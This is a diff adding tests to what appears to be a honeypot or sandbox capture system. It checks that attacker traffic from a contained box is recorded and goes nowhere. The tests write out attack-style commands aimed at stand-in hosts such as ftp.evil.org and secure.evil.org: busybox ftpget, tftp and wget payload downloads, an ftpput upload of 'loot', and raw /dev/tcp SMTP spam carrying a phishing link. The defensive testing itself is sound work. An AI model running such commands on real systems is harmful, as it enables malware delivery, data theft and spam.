@@ -40,6 +40,7 @@ class Outside:
         self.data = data
         self.asked: list[FetchRequest] = []
         self.outcome = "fetched"
+        self.more = b""
         self._quarantine = Quarantine(data / "quarantine")
         self._before = len(self._all())
 
@@ -48,7 +49,7 @@ class Outside:
         url = request.url.decode()
         if self.outcome != "fetched":
             return Capture(url=url, at=datetime.now(UTC), outcome=self.outcome)  # type: ignore[arg-type]
-        kept = self._quarantine.put(b"PAYLOAD of " + request.url + b"\n")
+        kept = self._quarantine.put(b"PAYLOAD of " + request.url + b"\n" + self.more)
         return Capture(url=url, at=datetime.now(UTC), outcome="fetched", status=200, reason=b"OK",
                        headers=[(b"Content-Type", b"text/x-sh"), (b"Transfer-Encoding", b"chunked")],
                        size=kept.size, sha256=kept.sha256)  # fmt: skip
@@ -214,3 +215,62 @@ async def test_no_packet_of_a_box_is_seen_on_an_interface_of_this_machine(
     assert set(before) == set(after), "a box's wire is no link of ours"
     sent = {name: int(after[name][9]) - int(before[name][9]) for name in before if name != "lo"}
     assert all(count == 0 for count in sent.values()), sent
+
+
+async def test_files_come_by_ftp(data: Path, outside: Outside) -> None:
+    line = "cd /tmp; busybox ftpget -u anonymous -p a@b ftp.evil.org out.bin pub/bin.x86 && cat out.bin"
+    assert await _sh(data, line) == b"PAYLOAD of ftp://ftp.evil.org/pub/bin.x86\n"
+    seen = (await outside.recorded(2))[-1]
+    assert (seen.protocol, seen.url, seen.first) == (
+        "ftp",
+        b"ftp://ftp.evil.org/pub/bin.x86",
+        b"anonymous:a@b",
+    )
+    assert seen.argv[:2] == [b"busybox", b"ftpget"] and outside.asked[0].username == b"anonymous"
+
+
+async def test_what_is_put_by_ftp_is_kept(data: Path, outside: Outside) -> None:
+    await _sh(data, "echo secret > /tmp/up; busybox ftpput -u a -p b ftp2.evil.org loot.txt /tmp/up")
+    seen = (await outside.recorded(2))[-1]
+    assert (seen.method, seen.url, seen.first) == ("STOR", b"ftp://ftp2.evil.org/loot.txt", b"secret\n")
+    assert outside.asked == []
+
+
+async def test_files_come_by_tftp_in_many_blocks_and_ones_that_are_not_there_do_not(
+    data: Path, outside: Outside
+) -> None:
+    outside.more = b"x" * 3000
+    line = "cd /tmp; busybox tftp -g -r arm7 -l a7 198.51.100.21 2>/dev/null && cat a7"
+    assert await _sh(data, line) == b"PAYLOAD of tftp://198.51.100.21/arm7\n" + outside.more
+    (seen,) = await outside.recorded(1)
+    assert (seen.protocol, seen.url, seen.client) == ("tftp", b"tftp://198.51.100.21/arm7", "busybox-tftp")
+    outside.outcome = "not-found"
+    assert b"not found" in (await _sh(data, "busybox tftp -g -r gone 198.51.100.21")).lower()
+
+
+async def test_mail_is_taken_and_goes_nowhere(data: Path, outside: Outside) -> None:
+    script = (
+        "exec 3<>/dev/tcp/mx.evil.org/25; read -r l <&3; echo $l;"
+        "printf 'HELO a\\r\\nMAIL FROM:<s@a.example>\\r\\nRCPT TO:<v@b.example>\\r\\nDATA\\r\\n' >&3;"
+        "printf 'Subject: x\\r\\n\\r\\nhttp://phish.example/\\r\\n.\\r\\nQUIT\\r\\n' >&3; cat <&3"
+    )
+    out = await _sh(data, script)
+    assert out.startswith(b"220 mx.evil.org ESMTP") and b"queued" in out and out.endswith(b"Bye\r\n")
+    seen = (await outside.recorded(2))[-1]
+    assert seen.url == b"smtp://mx.evil.org" and b"RCPT TO:<v@b.example>" in seen.first
+    assert b"http://phish.example/" in seen.first
+
+
+async def test_https_is_read_with_the_name_that_the_client_asks_for(data: Path, outside: Outside) -> None:
+    out = await _sh(data, "busybox wget -q --no-check-certificate -O - https://secure.evil.org/p.sh")
+    assert out == b"PAYLOAD of https://secure.evil.org/p.sh\n"
+    seen = (await outside.recorded(2))[-1]
+    assert (seen.protocol, seen.host, seen.dst_port) == ("https", "secure.evil.org", 443)
+
+
+async def test_a_ping_is_seen(data: Path, outside: Outside) -> None:
+    out = await _sh(data, "busybox ping -c 1 -W 2 198.51.100.60")
+    if b"permission denied" in out.lower():
+        pytest.skip("this BusyBox pings by raw sockets alone, which boxes have not")
+    assert b"1 packets received" in out
+    assert (await outside.recorded(1))[0].url.startswith(b"icmp://198.51.100.60")
